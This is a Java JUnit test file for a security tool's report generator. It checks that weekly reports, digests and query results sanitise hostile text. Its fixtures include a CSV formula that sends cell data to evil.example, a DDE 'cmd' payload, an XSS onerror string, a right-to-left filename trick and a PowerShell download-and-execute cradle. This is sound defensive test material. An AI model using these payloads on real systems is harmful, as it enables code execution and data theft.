package dev.takagari.alerting.report;

import static org.assertj.core.api.Assertions.assertThat;

import dev.takagari.alerting.report.Schedule.Slot;
import dev.takagari.core.cases.Tell;
import dev.takagari.core.coverage.CoverageItem;
import dev.takagari.core.coverage.CoverageKind;
import dev.takagari.core.detection.Severity;
import dev.takagari.core.event.Columns;
import dev.takagari.core.query.QueryParser;
import dev.takagari.core.search.EventAnswer;
import dev.takagari.core.search.TimeRange;
import dev.takagari.core.telling.NewAct;
import dev.takagari.core.telling.TellPost;
import dev.takagari.core.telling.TellText;
import dev.takagari.core.testing.Golden;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class ReportTextTest {
  private static final Path GOLDEN = Path.of("src/test/resources/golden/reports");
  private static final ZoneId TOKYO = ZoneId.of("Asia/Tokyo");
  private static final IsoWeek WEEK = IsoWeek.find("2026-W47").orElseThrow();
  private static final LocalDate DAY = LocalDate.of(2026, 11, 18);
  private static final TimeRange SPAN =
      new TimeRange(Instant.parse("2026-11-17T00:00:00Z"), Instant.parse("2026-11-18T00:00:00Z"));

  /// What people wrote, or had programs write, to get out of a report.
  private static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
          "@here @channel <!channel> <@U1> @octocat fixes #1 GH-12",
          "[click](http://evil.example) ![x](https://evil.example/a.png)",
          "`code` **strong** | cell | <img src=x onerror=alert(1)> <!-- -->",
          "line one\nline two\r\n# heading\n- list",
          "evil.example\u202egnp.exe www.evil.example",
          "0123456789abcdef0123456789abcdef01234567",
          "-2+3+cmd|' /C calc'!A0",
          "x".repeat(5_000),
          "\"quoted\", and; separated");

  private static void golden(String name, Report report) {
    TellPost post = report.post();
    Golden.check(
        GOLDEN.resolve(name + "/summary.md"), "# " + post.title() + "\n\n" + post.summary() + "\n");
    for (TellPost.File file : post.files()) {
      Golden.check(GOLDEN.resolve(name).resolve(file.name()), file.text());
    }
    harmless(post);
  }

  /// What holds for every report.
  private static void harmless(TellPost post) {
    assertThat(post.title()).doesNotContain("\n").hasSizeLessThan(150);
    assertThat(post.summary()).hasSizeLessThanOrEqualTo(3_000);
    for (String line : post.summary().lines().toList()) {
      assertThat(withoutCode(line)).doesNotContain("@", "<", "#", "![", "http://", "www.");
      assertThat(withoutCode(line.replaceAll("\\[A-\\d{4}-\\d+]\\(https://takagari[^)]*\\)", "")))
          .doesNotContain("](", "://");
    }
    for (TellPost.File file : post.files()) {
      assertThat(file.name()).matches("[A-Za-z0-9._-]+");
      assertThat(file.text()).doesNotContain("http://", "evil.example", "\u202e");
      if (file.mediaType().equals("text/csv")) {
        assertThat(file.text().lines())
            .allSatisfy(
                line ->
                    assertThat(line).doesNotMatch("(^|.*,)\"?[=+@-](?!timestamp|[0-9]+(,|$)).*"));
      }
    }
    assertThat(
            new NewAct(
                    "slack",
                    "s",
                    dev.takagari.core.telling.Act.Kind.POST,
                    "m",
                    TellText.write(post))
                .content())
        .isNotEmpty();
  }

  private static String withoutCode(String line) {
    return line.replaceAll("`[^`]*`", "");
  }

  @Test
  void aWeekInWhichMuchHappened() {
    golden("weekly", ReportWorld.busy().week().of(WEEK, TOKYO, 2));
  }

  @Test
  void aWeekInWhichNothingHappened() {
    Report report = new ReportWorld().week().of(WEEK, TOKYO, 0);

    golden("weekly-nothing", report);
    assertThat(report.isEmpty()).isFalse();
  }

  @Test
  void aDigest() {
    golden("digest", ReportWorld.busy().digest().of(SPAN, DAY, TOKYO, 0));
  }

  @Test
  void aDigestOfNothingIsEmpty() {
    Report report = new ReportWorld().digest().of(SPAN, DAY, TOKYO, 0);

    golden("digest-nothing", report);
    assertThat(report.isEmpty()).isTrue();
    assertThat(report.post().files()).isEmpty();
  }

  @Test
  void aDigestOfManyNamesTheFirstAndListsAll() {
    ReportWorld world = new ReportWorld();
    for (int i = 1; i <= 300; i++) {
      world.cases.add(ReportWorld.found(i, "Something odd number " + i, Severity.LOW, Tell.DIGEST));
    }

    Report report = world.digest().of(SPAN, DAY, TOKYO, 3);

    harmless(report.post());
    assertThat(report.post().title()).isEqualTo("Digest of 2026-11-18: 300 cases");
    assertThat(report.post().summary()).contains("3 earlier digests could not be made in time");
    assertThat(report.post().files().getFirst().text().lines()).hasSize(301);
  }

  @Test
  void aFileThatDoesNotHaveAllIsSaidToHaveTheFirst() {
    ReportWorld world = new ReportWorld();
    for (int i = 1; i <= 2_500; i++) {
      world.cases.add(ReportWorld.found(i, "Something odd", Severity.LOW, Tell.DIGEST));
    }

    String week = world.week().of(WEEK, TOKYO, 0).post().summary();
    String digest = world.digest().of(SPAN, DAY, TOKYO, 0).post().summary();

    assertThat(week)
        .containsPattern("The file cases-2026-W47.csv has the first 1,[0-9]+ of 2,500 cases");
    assertThat(digest).contains("The file cases-2026-11-18.csv has the first 1,000 of 2,500 cases");
  }

  private static SavedQuery saved(int limit) {
    String text = "process.name:powershell.exe OR dns.question.name:*.example";
    return new SavedQuery(
        text,
        QueryParser.parse(text).query(),
        Duration.ofDays(1),
        List.of("@timestamp", "host.name", "process.command_line", "attributes.RawName"),
        limit);
  }

  private static Report answer(ReportWorld world, int limit) {
    Slot slot = Schedule.daily(LocalTime.of(9, 0), TOKYO).slot(DAY);
    return world.query().of("powershell", saved(limit), slot, new ShownTimes(TOKYO), 0);
  }

  @Test
  void aSavedQuery() {
    ReportWorld world = new ReportWorld();
    List<dev.takagari.core.event.EventRow> rows = new ArrayList<>();
    for (int i = 0; i < 12; i++) {
      rows.add(
          ReportWorld.event(
              Columns.TIMESTAMP,
              1_794_931_200_000_000L - i,
              Columns.HOST_NAME,
              "WS-014" + i,
              Columns.PROCESS_COMMAND_LINE,
              i == 0 ? "powershell -c \"iwr https://evil.example/a|iex\"" : "powershell -nop"));
    }
    world.answer = new EventAnswer(rows, true, List.of("the hot index took too long"));
    world.uncovered.add(
        ReportWorld.uncovered(CoverageKind.PAUSED, "falcon", "paused by an operator"));

    Report report = answer(world, 12);

    golden("query", report);
    assertThat(report.isEmpty()).isFalse();
    assertThat(world.questions.getFirst().range())
        .isEqualTo(
            new TimeRange(
                Instant.parse("2026-11-17T00:00:00Z"), Instant.parse("2026-11-18T00:00:00Z")));
    assertThat(world.questions.getFirst().limit()).isEqualTo(12);
  }

  @Test
  void whatIsNotCoveredSaysSinceWhenAndUntilWhen() {
    ReportWorld world = new ReportWorld();
    Instant first = Instant.parse("2026-11-23T22:09:14Z");
    world.uncovered.add(
        new CoverageItem(
            CoverageKind.BEFORE_FIRST, "falcon", null, first, 0, "the feed had brought nothing"));
    world.uncovered.add(
        new CoverageItem(CoverageKind.PAUSED, "cloudtrail", first, null, 0, "the feed is paused"));

    Report report = world.week().of(WEEK, TOKYO, 0);

    assertThat(report.post().summary())
        .contains(
            "- falcon: the feed had brought nothing until 2026-11-24 07:09+09:00\n",
            "- cloudtrail: the feed is paused from 2026-11-24 07:09+09:00\n");
    assertThat(answer(world, 5).post().summary())
        .contains("the feed had brought nothing until 2026-11-2");
  }

  @Test
  void aQueryThatFindsNothingIsEmptyOnlyWhenAllWasRead() {
    ReportWorld world = new ReportWorld();
    assertThat(answer(world, 5).isEmpty()).isTrue();
    assertThat(answer(world, 5).post().title()).isEqualTo("powershell of 2026-11-18: no events");

    world.answer = new EventAnswer(List.of(), false, List.of("the lake could not be read"));

    assertThat(answer(world, 5).isEmpty()).isFalse();
    assertThat(answer(world, 5).post().summary()).contains("the lake could not be read");
  }

  @Test
  void whatDoesNotFitIntoTheFileIsSaid() {
    ReportWorld world = new ReportWorld();
    List<dev.takagari.core.event.EventRow> rows = new ArrayList<>();
    for (int i = 0; i < 1_000; i++) {
      rows.add(ReportWorld.event(Columns.PROCESS_COMMAND_LINE, "\"\\".repeat(1_500)));
    }
    world.answer = new EventAnswer(rows, false, List.of());

    Report report = answer(world, 1_000);

    harmless(report.post());
    assertThat(report.post().summary()).containsPattern("The last [0-9]+ events of these did not");
  }

  static Stream<String> hostile() {
    return HOSTILE.stream();
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void whatEventsSaidGetsOutOfNoReport(String text) {
    ReportWorld world = ReportWorld.busy();
    world.cases.clear();
    world.rules.clear();
    for (int i = 0; i < 50; i++) {
      world.cases.add(ReportWorld.found(i + 1, text, Severity.LOW, Tell.DIGEST));
      world.rules.add(ReportWorld.rule(text, 5, Map.of()));
      world.uncovered.add(ReportWorld.uncovered(CoverageKind.SILENT, "falcon", text));
    }
    world.answer =
        new EventAnswer(
            List.of(ReportWorld.event(Columns.HOST_NAME, text, Columns.PROCESS_COMMAND_LINE, text)),
            false,
            List.of(text));

    harmless(world.week().of(WEEK, TOKYO, 0).post());
    harmless(world.digest().of(SPAN, DAY, TOKYO, 0).post());
    harmless(answer(world, 5).post());
  }

  @ParameterizedTest
  @CsvSource({
    "PowerShell download cradle, PowerShell download cradle",
    "Storm: many logons, Storm: many logons",
    "its severity is below low, its severity is below low",
    "WS-0142, `WS-0142`",
    "bob@example.com, `bob@example[.]com`",
    "1. item, `1.` item",
    "Logon of CORP\\bob by WS-0142, Logon of `CORP\\bob` by `WS-0142`",
    "R & D of `x`, R `&` D of `ˋxˋ`",
    "a|b, `a|b`",
    "'', –"
  })
  void wordsStayWordsAndAllElseIsCode(String text, String shown) {
    assertThat(Markdown.words(text)).isEqualTo(shown);
  }

  @Test
  void aBarEndsNoCell() {
    assertThat(Markdown.table(List.of("a"), List.of(List.of(Markdown.words("x | y \\| z")))))
        .isEqualTo("| a |\n| --- |\n| x `¦` y `\\¦` z |\n");
  }

  @Test
  void plansHaveNamesAndKinds() {
    assertThat(Set.of("weekly", "a-1").stream().allMatch(ReportPlan::isName)).isTrue();
    assertThat(Stream.of("", "-a", "A", "a:b", "a".repeat(32)).noneMatch(ReportPlan::isName))
        .isTrue();
  }
}
